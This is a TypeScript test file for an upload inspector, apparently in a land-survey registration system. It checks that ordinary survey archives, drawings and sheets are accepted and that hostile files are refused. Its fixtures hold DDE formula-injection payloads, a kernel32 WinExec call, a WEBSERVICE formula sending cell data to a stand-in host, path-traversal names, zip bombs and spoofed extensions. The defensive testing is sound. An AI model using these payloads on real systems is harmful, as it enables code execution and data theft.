// Archives, drawings, shapes, coordinates and sheets: ordinary ones are taken, hostile ones are refused by name.
import zlib from 'node:zlib';
import { crc32 } from 'node:zlib';
import { checkDeclared } from './inspect/inspect-file';
import { limitsFor } from './holder/material-limits';
import { inspectNow } from '../../testing/files/inspect-now';
import { samplePdf } from '../../testing/files/sample-files';

const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const survey = limitsFor('M064');

interface Part {
  name: string;
  text?: string;
  flags?: number;
  claims?: number;
}

/** A whole archive; `claims` is the unpacked size that it pretends. */
function zipOf(parts: readonly Part[], comment = ''): Buffer {
  const bodies: Buffer[] = [];
  const list: Buffer[] = [];
  let offset = 0;
  for (const { name, text = 'x', flags = 0x0800, claims } of parts) {
    const [path, packed] = [Buffer.from(name), zlib.deflateRawSync(Buffer.from(text))];
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(flags, 6);
    head.writeUInt16LE(8, 8);
    head.writeUInt32LE(crc32(Buffer.from(text)), 14);
    head.writeUInt32LE(packed.length, 18);
    head.writeUInt32LE(claims ?? text.length, 22);
    head.writeUInt16LE(path.length, 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(flags, 8);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(packed.length, 20);
    entry.writeUInt32LE(claims ?? text.length, 24);
    entry.writeUInt16LE(path.length, 28);
    entry.writeUInt32LE(offset, 42);
    bodies.push(head, path, packed);
    list.push(entry, path);
    offset += 30 + path.length + packed.length;
  }
  const directory = Buffer.concat(list);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  end.writeUInt16LE(Buffer.byteLength(comment), 20);
  return Buffer.concat([...bodies, directory, end, Buffer.from(comment)]);
}

function shape(words?: number): Buffer {
  const bytes = Buffer.alloc(128);
  bytes.writeInt32BE(9994, 0);
  bytes.writeInt32BE(words ?? 64, 24);
  bytes.writeInt32LE(1000, 28);
  return bytes;
}

const sheet = (...more: string[]) =>
  zipOf(['[Content_Types].xml', 'xl/workbook.xml', ...more].map((name) => ({ name })));

it.each<[string, string, string, Buffer]>([
  [
    'an archive',
    '宗地图.zip',
    'application/zip',
    zipOf([{ name: '宗地图/界址点.txt', text: 'J1 3345.12 4021.77' }, { name: '宗地图/平面图.dwg' }]),
  ],
  ['an archive with a remark', 'a.zip', 'application/zip', zipOf([{ name: 'a.pdf' }], '测绘单位提交')],
  ['a drawing', '平面图.DWG', 'application/acad', Buffer.from('AC1032\u0000\u0000....', 'latin1')],
  ['a shape', '宗地.shp', 'application/x-esri-shape', shape()],
  ['coordinates', '界址点.txt', 'text/plain', Buffer.from('J1,3345.12,4021.77\r\nJ2,3346.00,4021.77')],
  [
    'coordinates of an older instrument',
    '界址点.txt',
    'text/plain',
    Buffer.from([0xbd, 0xe7, 0xd6, 0xb7, 0xb5, 0xe3, 0x0d, 0x0a]),
  ],
  ['a sheet', '面积表.xlsx', SHEET, sheet('xl/worksheets/sheet1.xml')],
])('%s is taken', (_what, name, mime, bytes) => {
  expect(inspectNow(name, mime, bytes, survey)).toEqual({ mime, pages: 1 });
});

it.each<[string, string, string, Buffer, RegExp]>([
  ['a program called an archive', 'a.zip', 'application/zip', Buffer.from('MZ......'), /内容与文件格式不一致/],
  [
    'half an archive',
    'a.zip',
    'application/zip',
    zipOf([{ name: 'a.txt' }, { name: 'b.txt' }]).subarray(0, 60),
    /可能已损坏/,
  ],
  [
    'something behind an archive',
    'a.zip',
    'application/zip',
    Buffer.concat([zipOf([{ name: 'a.txt' }]), Buffer.from('<script>')]),
    /可能已损坏/,
  ],
  ['an archive with a password', 'a.zip', 'application/zip', zipOf([{ name: 'a.txt', flags: 0x0801 }]), /设有密码/],
  [
    'an archive that fills a disk',
    'a.zip',
    'application/zip',
    zipOf([{ name: 'a.txt', claims: 3_000_000_000 }]),
    /解压后过大/,
  ],
  [
    'an archive that shrinks too well',
    'a.zip',
    'application/zip',
    zipOf([{ name: 'a.txt', text: '0'.repeat(2_000_000) }]),
    /解压后过大/,
  ],
  [
    'an archive that climbs out of its folder',
    'a.zip',
    'application/zip',
    zipOf([{ name: '../../etc/passwd' }]),
    /不安全的文件名/,
  ],
  ['an archive with a drive', 'a.zip', 'application/zip', zipOf([{ name: 'C:\\windows\\a.txt' }]), /不安全的文件名/],
  ['an archive with a program', 'a.zip', 'application/zip', zipOf([{ name: '安装.exe' }]), /程序或宏/],
  ['another drawing', 'a.dwg', 'application/acad', Buffer.from('AC1.50....'), /内容与文件格式不一致/],
  ['a shape cut off', 'a.shp', 'application/x-esri-shape', shape(100), /可能已损坏/],
  ['bytes called a text', 'a.txt', 'text/plain', Buffer.from([0x41, 0x00, 0x42]), /内容与文件格式不一致/],
  ['an archive called a sheet', 'a.xlsx', SHEET, zipOf([{ name: 'a.txt' }]), /内容与文件格式不一致/],
  ['a sheet with macros', 'a.xlsx', SHEET, sheet('xl/vbaProject.bin'), /程序或宏/],
])('%s is refused', (_what, name, mime, bytes, words) => {
  expect(() => inspectNow(name, mime, bytes, survey)).toThrow(words);
});

const xml = (body: string) => `<?xml version="1.0" encoding="UTF-8"?>${body}`;
const sheetWith = (...parts: Part[]) => zipOf([{ name: '[Content_Types].xml' }, { name: 'xl/workbook.xml' }, ...parts]);
const cells = (formula: string): Part => ({
  name: 'xl/worksheets/sheet1.xml',
  text: xml(`<worksheet><sheetData><row><c r="A1"><f>${formula}</f><v>0</v></c></row></sheetData></worksheet>`),
});
const relation = (type: string, target: string): Part => ({
  name: 'xl/worksheets/_rels/sheet1.xml.rels',
  text: xml(
    `<Relationships><Relationship Id="r1" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  ),
});

it.each<[string, Buffer]>([
  ['sums', sheetWith(cells('SUM(A2:A9)*1.5-IF(B1=&quot;|&quot;,1,0)'))],
  [
    'a link to the web',
    sheetWith(cells('HYPERLINK("https://www.example.cn")'), relation('hyperlink', 'https://www.example.cn/')),
  ],
  [
    'pictures, printers and remarks',
    sheetWith(
      { name: 'xl/media/image1.png' },
      { name: 'xl/printerSettings/printerSettings1.bin' },
      { name: 'docProps/custom.xml' },
      { name: 'xl/drawings/vmlDrawing1.vml' },
    ),
  ],
])('a workbook with %s is taken', (_what, bytes) => {
  expect(inspectNow('a.xlsx', SHEET, bytes, survey)).toEqual({ mime: SHEET, pages: 1 });
});

it.each<[string, Buffer]>([
  ['a call of a program', sheetWith(cells("cmd|'/c calc'!A0"))],
  ['a call by references of characters', sheetWith(cells("cmd&#x7c;'/c calc'&#33;A0"))],
  ['a call of a function of the system', sheetWith(cells('CALL("kernel32","WinExec","JCJ","calc",0)'))],
  ['data from the web', sheetWith(cells('WEBSERVICE(&quot;http://a.cn/&quot;&amp;A1)'))],
  ['a link to a program', sheetWith(cells('HYPERLINK(&quot;file:///c:/x.exe&quot;)'))],
  ['a part that no workbook has', sheetWith({ name: 'xl/workbook2.xml' })],
  [
    'a defined name that calls',
    zipOf([
      { name: '[Content_Types].xml' },
      {
        name: 'xl/workbook.xml',
        text: xml(
          "<workbook><definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames></workbook>",
        ),
      },
    ]),
  ],
  ['links to other workbooks', sheetWith({ name: 'xl/externalLinks/externalLink1.xml', text: '<externalLink/>' })],
  ['sheets of macros', sheetWith({ name: 'xl/macrosheets/sheet1.xml' })],
  ['a control', sheetWith({ name: 'xl/activeX/activeX1.xml' })],
  ['a program within', sheetWith({ name: 'xl/embeddings/oleObject1.bin' })],
  ['a connection', sheetWith({ name: 'xl/connections.xml' })],
  [
    'a type of macros',
    zipOf([
      {
        name: '[Content_Types].xml',
        text: xml('<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'),
      },
      { name: 'xl/workbook.xml' },
    ]),
  ],
  ['a template of another place', sheetWith(relation('attachedTemplate', 'http://a.cn/x.dotm'))],
  ['a link to a share', sheetWith(relation('hyperlink', '\\\\host\\share'))],
  ['a picture of another place', sheetWith(relation('image', 'http://a.cn/x.png'))],
  ['a part of an unknown kind', sheetWith({ name: 'xl/data.exe' })],
  [
    'a call in a part with a type of its own',
    sheetWith({ name: 'xl/worksheets/sheet1.xml', text: '<!DOCTYPE x [<!ENTITY a "cmd">]><worksheet/>' }),
  ],
  [
    'a part of another encoding',
    sheetWith({ name: 'xl/worksheets/sheet1.xml', text: '<?xml version="1.0" encoding="UTF-7"?><worksheet/>' }),
  ],
])('a workbook with %s is refused', (_what, bytes) => {
  expect(() => inspectNow('a.xlsx', SHEET, bytes, survey)).toThrow(/请/);
});

it.each([
  'setup.exe.',
  'setup.exe ',
  'a.pif',
  'a.url',
  'a.iso',
  'a.xll',
  'a.lnk',
  'a.hta',
  'a.scr',
  'a.pdf.exe',
  'a.docm',
  'a.xlsb',
  'a.slk',
  'a.rar',
  'a.jar',
  'a.html',
  'a.svg',
  'a.txt:b.exe',
  'a\u202etxt.exe',
  'con.txt',
  'x/aux',
  'a.unknown',
  'ohne',
  'a.mdb',
  'a.settingcontent-ms',
])('an archive with %j is refused', (name) => {
  expect(() => inspectNow('a.zip', 'application/zip', zipOf([{ name: '宗地.txt' }, { name }]), survey)).toThrow(/请/);
});

it.each([
  ['a program called a drawing', '平面图.dwg', 'MZ\u0090'],
  ['a program called a picture', 'a.jpg', '\u007fELF'],
  ['a page of the web called a text', 'a.txt', '<html><script>alert(1)</script>'],
  ['an archive called a table', 'a.dbf', 'PK\u0003\u0004'],
  ['a PDF with a script', 'a.pdf', samplePdf({ objects: ['9 0 obj << /S /JavaScript >> endobj '] }).toString('latin1')],
  ['a shortcut called a text', 'a.txt', '[InternetShortcut]\r\nURL=file:///c:/x.exe'],
  ['a batch file called a text', 'a.txt', '@echo off\r\ncalc'],
  ['a workbook with macros', 'a.xlsx', sheet('xl/vbaProject.bin').toString('latin1')],
])('an archive with %s is refused', (_what, name, text) => {
  expect(() => inspectNow('a.zip', 'application/zip', zipOf([{ name, text }]), survey)).toThrow(/请/);
});

it('an archive whose headers name another file than its list is refused', () => {
  const bytes = zipOf([{ name: 'aaaaa.txt' }]);
  bytes.write('setup.exe', 30, 'latin1');
  expect(() => inspectNow('a.zip', 'application/zip', bytes, survey)).toThrow(/可能已损坏/);
});

it('a file between the parts of an archive is refused', () => {
  const bytes = zipOf([{ name: 'a.txt' }]);
  const hidden = Buffer.concat([zipOf([{ name: 'setup.exe', text: 'MZ'.repeat(40) }]).subarray(0, 60), bytes]);
  const end = hidden.length - 22;
  hidden.writeUInt32LE(hidden.readUInt32LE(end + 16) + 60, end + 16);
  hidden.writeUInt32LE(60, hidden.readUInt32LE(end + 16) + 42);
  expect(() => inspectNow('a.zip', 'application/zip', hidden, survey)).toThrow(/不安全|损坏/);
});

it('filling behind an archive does no harm', () => {
  for (const filling of ['\r\n', '\0\0\0\0', ' \n'])
    expect(
      inspectNow('a.zip', 'application/zip', Buffer.concat([zipOf([{ name: 'a.txt' }]), Buffer.from(filling)]), survey),
    ).toMatchObject({ pages: 1 });
});

it('a table that calls a program is refused, one with names and minus signs is taken', () => {
  expect(() =>
    inspectNow('a.csv', 'text/csv', Buffer.from("房号\n=cmd|'/c calc'!A0"), { ...survey, accept: ['text/csv'] }),
  ).toThrow('程序或宏');
  expect(
    inspectNow('a.csv', 'text/csv', Buffer.from('房号,差\n101|102,-1.5\n注意!,+3'), {
      ...survey,
      accept: ['text/csv'],
    }),
  ).toMatchObject({ pages: 1 });
});

it('only materials that ask for such files take them, and say which they take', () => {
  const zip = zipOf([{ name: 'a.txt' }]);
  expect(() => inspectNow('a.zip', 'application/zip', zip, limitsFor('M002'))).toThrow(
    '“a.zip”不是支持的格式，请上传 JPG、PNG、PDF 文件',
  );
  expect(() => inspectNow('a.shp', 'application/x-esri-shape', shape(), limitsFor('M007'))).toThrow(
    '“a.shp”不是支持的格式，请上传 PDF、JPG、ZIP、DWG、TXT 文件',
  );
  expect(() => checkDeclared('a.exe', 10, 'application/zip', survey)).toThrow('扩展名');
});
